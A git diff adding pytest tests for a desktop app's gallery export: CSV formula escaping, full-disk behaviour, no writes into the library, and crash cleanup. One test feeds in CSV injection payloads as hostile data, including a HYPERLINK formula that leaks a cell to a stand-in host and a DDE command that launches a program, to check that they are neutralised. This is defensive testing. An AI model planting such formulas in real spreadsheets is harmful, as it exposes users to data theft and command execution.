@@ -1,8 +1,13 @@
 import csv
 import io
 import json
+import os
+import shutil
+import subprocess
+import sys
 import threading
 import zipfile
+from pathlib import Path
 
 import pytest
 from PIL import Image
@@ -10,6 +15,7 @@ from PIL import Image
 from desktop.core.errors import Cancelled, UserFacingError
 from desktop.core.image_metadata import encode_image, read_settings
 from desktop.core.image_settings import ImageSettings
+from desktop.store import gallery_export
 from desktop.store.asset_files import write_atomically
 from desktop.store.gallery_export import collect, export_gallery
 from desktop.store.generations import AssetMeta, NewGeneration
@@ -146,3 +152,119 @@ def test_cli_import(tmp_path, library, capsys):
     assert main(["--data-dir", str(tmp_path / "other"), "import", str(out)]) == 0
     assert "4 imported, 0 already" in capsys.readouterr().out
     assert main(["--data-dir", str(tmp_path / "other"), "import", str(tmp_path / "missing.zip")]) == 1
+
+
+def test_manifest_is_strict_json_and_csv_cells_cannot_run_formulas(tmp_path, library):
+    from desktop.store.gallery_import import import_gallery
+
+    hostile = {"prompt": '=HYPERLINK("http://x.example/?"&A1,"click")', "negative": "=cmd|' /C calc'!A0",
+               "model_name": "@SUM(1+1)"}
+    gid = library.generations.start(NewGeneration(modality="text", kind="chat", params={"cfg": float("nan"),
+                                                  "steps": [1, float("inf")]}, seed=-5, **hostile))
+    library.generations.finish(gid, output_text="+1 -1")
+    library.items.add_tag([gid], "-tag")
+    out = tmp_path / "g.zip"
+    export_gallery(library, out, collect(library), "zip")
+    with zipfile.ZipFile(out) as z:
+        def refuse(name):
+            raise AssertionError(f"{name} in manifest.json")
+        manifest = json.loads(z.read("manifest.json"), parse_constant=refuse)  # strict JSON
+        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(z.read("manifest.csv").decode()))}
+    entry = manifest["items"][-1]
+    assert entry["params"] == {"cfg": None, "steps": [1, None]} and entry["prompt"] == hostile["prompt"]
+    row = rows[str(gid)]
+    assert row["prompt"] == "'" + hostile["prompt"] and row["negative"] == "'" + hostile["negative"]
+    assert row["model_name"] == "'@SUM(1+1)" and row["seed"] == "-5"  # a number stays a number
+    for start in ("+", "-", "\t", "\r"):
+        assert gallery_export._cell(start + "x") == "'" + start + "x"
+    assert gallery_export._cell("a=b") == "a=b"
+    fresh = Library(tmp_path / "fresh")
+    import_gallery(fresh, out)  # the manifest keeps the text itself: it comes back unchanged
+    back = fresh.generations.get(5)
+    assert (back.prompt, back.negative, back.params) == (hostile["prompt"], hostile["negative"], entry["params"])
+    fresh.close()
+
+
+@pytest.fixture
+def small_disk(tmp_path):
+    """A 48 MB file system of its own (tmpfs), to fill up."""
+    mount = tmp_path / "small"
+    mount.mkdir()
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=48m", "tmpfs", str(mount)],
+                      capture_output=True).returncode != 0:
+        pytest.skip("mounting a small file system needs root")
+    yield mount
+    subprocess.run(["umount", "-l", str(mount)], check=False)
+
+
+def fill(folder):
+    with open(folder / "filler", "wb") as handle:
+        try:
+            while True:
+                handle.write(bytes(1 << 20))
+                handle.flush()
+        except OSError:
+            pass
+
+
+def test_exporting_to_another_disk_works_when_the_library_disk_is_full(tmp_path, small_disk):
+    library = Library(small_disk / "lib")
+    gid = library.generations.start(NewGeneration(modality="image", kind="txt2img", prompt="full", params={}))
+    written = write_atomically(library.layout.root, "assets/big.png", os.urandom(4_000_000))
+    library.generations.finish(gid, assets=[AssetMeta(written, "image/png")])
+    entries = collect(library)
+    fill(small_disk)
+    assert shutil.disk_usage(small_disk).free < 1 << 20
+    for fmt, out in (("zip", tmp_path / "saved.zip"), ("folder", tmp_path / "saved")):
+        result = export_gallery(library, out, entries, fmt)
+        assert (result.items, result.files) == (1, 1)
+    with zipfile.ZipFile(tmp_path / "saved.zip") as z:
+        assert z.read("files/00000001-big.png") == (small_disk / "lib/assets/big.png").read_bytes()
+    assert (tmp_path / "saved/files/00000001-big.png").stat().st_size == 4_000_000
+    assert not list(tmp_path.glob("*.partial")) and not any(library.layout.temp.iterdir())
+    library.close()
+
+
+def test_a_full_destination_says_so_and_leaves_nothing(tmp_path, library, small_disk):
+    for i in range(1, 4):  # 3 x 20 MB: more than the destination holds
+        (library.layout.root / library.generations.get(i).assets[0]["path"]).write_bytes(os.urandom(20_000_000))
+    for fmt, name in (("zip", "g.zip"), ("folder", "g")):
+        with pytest.raises(UserFacingError, match=f"not enough free space in {small_disk}"):
+            export_gallery(library, small_disk / name, collect(library), fmt)
+        assert list(small_disk.iterdir()) == []
+    assert library.conn.execute("SELECT count(*) FROM staging").fetchone()[0] == 0
+
+
+_watched: list[Path] = []
+
+
+def _writes_into_watched(event, args):
+    if not _watched or event not in ("open", "os.mkdir", "os.rename", "os.replace"):
+        return
+    path, mode = args[0], args[1] if event == "open" and len(args) > 1 else "w"
+    writing = isinstance(mode, str) and any(c in mode for c in "wax+") or (
+        isinstance(args[-1], int) and event == "open" and args[-1] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
+    if writing and isinstance(path, (str, Path)) and Path(path).resolve().is_relative_to(_watched[0]):
+        raise AssertionError(f"the export wrote {path} inside the library")
+
+
+def test_an_export_writes_nothing_in_the_library_folder(tmp_path, library):
+    sys.addaudithook(_writes_into_watched)  # a hook stays for the session: it acts only while watching
+    _watched.append(library.layout.root.resolve())
+    try:
+        export_gallery(library, tmp_path / "a.zip", collect(library), "zip")
+        export_gallery(library, tmp_path / "a", collect(library), "folder")
+    finally:
+        _watched.clear()
+    assert zipfile.is_zipfile(tmp_path / "a.zip") and (tmp_path / "a" / "manifest.json").exists()
+
+
+def test_an_export_staged_by_a_dead_process_is_removed_by_the_next_start(tmp_path, library):
+    """What the window and every CLI command run when they open the library."""
+    from desktop.store import staging
+
+    partial = tmp_path / "gallery.zip.0badc0de.partial"
+    staging.register(library, partial)
+    partial.write_bytes(b"half a zip")
+    library.conn.execute("UPDATE staging SET owner='1-deadbeef'")  # as if its process had died
+    assert library.recover_after_crash().staging_removed == 1 and not partial.exists()
